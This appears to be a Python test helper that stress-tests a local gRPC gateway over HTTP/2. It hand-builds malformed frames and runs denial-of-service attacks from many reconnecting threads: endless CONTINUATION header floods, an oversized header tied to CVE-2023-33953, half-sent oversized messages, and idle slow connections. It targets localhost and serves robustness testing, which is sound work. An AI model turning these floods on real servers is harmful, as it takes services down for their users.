"""HTTP/2 as no client would send it, over TLS or without: what strangers and broken programs do to a gateway."""
import os
import socket
import ssl
import struct
import threading
import time

HEADERS, RESET, SETTINGS, PING, GOAWAY, WINDOW, CONTINUATION = 1, 3, 4, 6, 7, 8, 9
END_HEADERS, ACK = 4, 1
SERVICE = "/troupe.wire.TrainingService/"
ANNOUNCED, SENT = 200 << 20, 25 << 20  # of a message that never comes whole


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def integer(value, bits, first=0):
    """HPACK's integers (RFC 7541, 5.1)."""
    most = (1 << bits) - 1
    if value < most:
        return bytes([first | value])
    out, value = bytes([first | most]), value - most
    while value >= 128:
        out, value = out + bytes([value % 128 | 128]), value // 128
    return out + bytes([value])


def header(name, value):
    """Never indexed, no Huffman code."""
    return b"\x10" + integer(len(name), 7) + name.encode() + integer(len(value), 7) + value.encode()


def request(method):
    return b"".join(header(name, value) for name, value in (
        (":method", "POST"), (":scheme", "https"), (":path", SERVICE + method), (":authority", "learner"),
        ("te", "trailers"), ("content-type", "application/grpc")))


class Peer:
    """A connection that has said HTTP/2's preface. `certificate`: PEM files to show, (certificate, key) or None."""

    def __init__(self, port, authority, certificate=None, tls=True):
        self.socket = socket.create_connection(("127.0.0.1", port), timeout=10)
        if tls:
            context = ssl.create_default_context(cafile=authority)
            context.set_alpn_protocols(["h2"])
            if certificate:
                context.load_cert_chain(*certificate)
            self.socket = context.wrap_socket(self.socket, server_hostname="localhost")
        self.window = self.connection_window = 65535
        self.first_window, self.buffer, self.ended = 65535, b"", False
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def send(self, data):
        self.socket.sendall(data)

    def listen(self, seconds):
        """Reads what came: windows that open, an end."""
        self.socket.settimeout(seconds)
        try:
            data = self.socket.recv(1 << 16)
            self.ended = self.ended or not data
            self.buffer += data
        except TimeoutError:
            pass
        finally:
            self.socket.settimeout(10)
        while len(self.buffer) >= 9 and len(self.buffer) >= 9 + (length := int.from_bytes(self.buffer[:3], "big")):
            kind, flags = self.buffer[3], self.buffer[4]
            stream, payload = int.from_bytes(self.buffer[5:9], "big"), self.buffer[9:9 + length]
            self.buffer = self.buffer[9 + length:]
            if kind == WINDOW and stream:
                self.window += int.from_bytes(payload, "big")
            elif kind == WINDOW:
                self.connection_window += int.from_bytes(payload, "big")
            elif kind == SETTINGS and not flags & ACK:
                for name, value in struct.iter_unpack(">HI", payload):
                    if name == 4:
                        self.window += value - self.first_window
                        self.first_window = value
                self.send(frame(SETTINGS, ACK, 0))
            elif kind == PING and not flags & ACK:
                self.send(frame(PING, ACK, 0, payload))
            elif kind in (RESET, GOAWAY):
                self.ended = True

    def close(self):
        self.socket.close()


def headers_without_end(peer):
    """CONTINUATION frames for ever, of names never used before."""
    peer.send(frame(HEADERS, 0, 1, request("GetStatus")))
    for i in range(1 << 20):
        peer.send(frame(CONTINUATION, 0, 1, b"".join(header(f"k{100 * i + j}", "v" * 150) for j in range(90))))


def one_header_without_end(peer):
    """A value that says it is 2 GiB long (CVE-2023-33953)."""
    peer.send(frame(HEADERS, 0, 1, b"\x10\x01k" + integer(2 << 30, 7)))
    for _ in range(1 << 20):
        peer.send(frame(CONTINUATION, 0, 1, b"v" * 16384))


def half_a_message(method):
    def attack(peer):
        peer.send(frame(HEADERS, END_HEADERS, 1, request(method)))
        peer.send(frame(0, 0, 1, b"\0" + ANNOUNCED.to_bytes(4, "big")))
        peer.window, peer.connection_window = peer.window - 5, peer.connection_window - 5
        sent = 0
        while sent < SENT and not peer.ended:
            size = min(peer.window, peer.connection_window, 16384, SENT - sent)
            if size > 0:
                peer.send(frame(0, 0, 1, b"\x12" + b"\0" * (size - 1)))
                sent, peer.window = sent + size, peer.window - size
                peer.connection_window -= size
            else:
                peer.listen(0.1)
        deadline = time.monotonic() + 5
        while not peer.ended and time.monotonic() < deadline:
            peer.listen(0.5)
    return attack


def silence(peer):
    while not peer.ended:
        peer.listen(1)


ATTACKS = {
    "headers without end": (headers_without_end, 4),
    "one header without end": (one_header_without_end, 4),
    "half a registration": (half_a_message("Register"), 12),
    "half a trajectory": (half_a_message("StreamTrajectories"), 12),
    "silence": (silence, 40),
}


class Attackers:
    """So many peers at a time, in a process of their own that gives way to others; whoever is refused comes again."""

    def __init__(self, attack, peers, connect):
        self.pid = os.fork()
        if self.pid == 0:
            os.nice(15)
            for _ in range(peers):
                threading.Thread(target=self.again_and_again, args=(attack, connect), daemon=True).start()
            threading.Event().wait()

    @staticmethod
    def again_and_again(attack, connect):
        pause = threading.Event()
        while True:
            try:
                peer = connect()
                try:
                    attack(peer)
                finally:
                    peer.close()
            except OSError:
                pass
            pause.wait(0.02)

    def stop(self):
        os.kill(self.pid, 9)
        os.waitpid(self.pid, 0)
